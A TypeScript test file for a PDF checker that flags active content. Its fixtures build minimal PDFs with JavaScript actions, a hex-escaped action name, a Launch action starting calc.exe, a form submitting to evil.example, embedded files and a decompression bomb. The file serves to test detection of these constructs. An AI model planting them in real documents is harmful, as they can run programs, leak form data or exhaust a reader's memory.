import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { kindOfPdf } from './pdf-check.ts';

const catalog = '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n';

/** A PDF with one stream of these bytes and this dictionary. */
function withStream(dictionary: string, bytes: Uint8Array): Uint8Array {
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n${catalog}3 0 obj\n<<${dictionary}/Length ${bytes.length}>>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF', 'latin1'),
  ]);
}

const objects = (words: string): Uint8Array => deflateSync(Buffer.from(`4 0 ${words}`, 'latin1'));
const packed = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode';

describe('PDF attachments', () => {
  it.each<[string, string, Uint8Array]>([
    ['a program in a packed object', packed, objects('<</S/JavaScript/JS(app.alert(1))>>')],
    ['one whose name is written in numbers', packed, objects('<</S/J#61vaScript>>')],
    ['a program of this machine that is started', packed, objects('<</S/Launch/F(calc.exe)>>')],
    ['a file inside', packed, objects('<</Names<</EmbeddedFiles 5 0 R>>>>')],
    ['a form that sends itself', packed, objects('<</S/SubmitForm/F(https://evil.example)>>')],
    ['objects packed under another name', '/N 1/First 4/Filter/FlateDecode', objects('<</S/JavaScript>>')],
    [
      'objects in a stream that is not packed',
      '/Type/ObjStm/N 1/First 4',
      Buffer.from('4 0 <</S/JavaScript>>', 'latin1'),
    ],
  ])('with %s is active', async (_what, dictionary, bytes) => {
    expect(await kindOfPdf(withStream(dictionary, bytes))).toBe('active');
  });

  it('are refused where their content cannot be decoded', async () => {
    expect(
      await kindOfPdf(withStream('/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from('00'))),
    ).toBe('unreadable');
    expect(await kindOfPdf(withStream(packed, Buffer.from('no zlib')))).toBe('unreadable');
    expect(await kindOfPdf(Buffer.from(`%PDF-1.7\n${catalog}trailer\n<</Root 1 0 R/Encrypt 9 0 R>>`))).toBe('locked');
  });

  it('are refused quickly when they would inflate beyond the memory limit', async () => {
    const bomb = deflateSync(Buffer.alloc(400 * 1024 * 1024));
    const started = performance.now();
    expect(await kindOfPdf(withStream(packed, bomb))).toBe('unreadable');
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it('are passive when they contain only text, whatever bytes a page contains', async () => {
    expect(await kindOfPdf(withStream(packed, objects('<</Type/Page/MediaBox[0 0 595 842]>>')))).toBe('passive');
    expect(
      await kindOfPdf(withStream('/Filter/FlateDecode', deflateSync(Buffer.from('BT (read /JavaScript here) Tj ET')))),
    ).toBe('passive');
  });
});
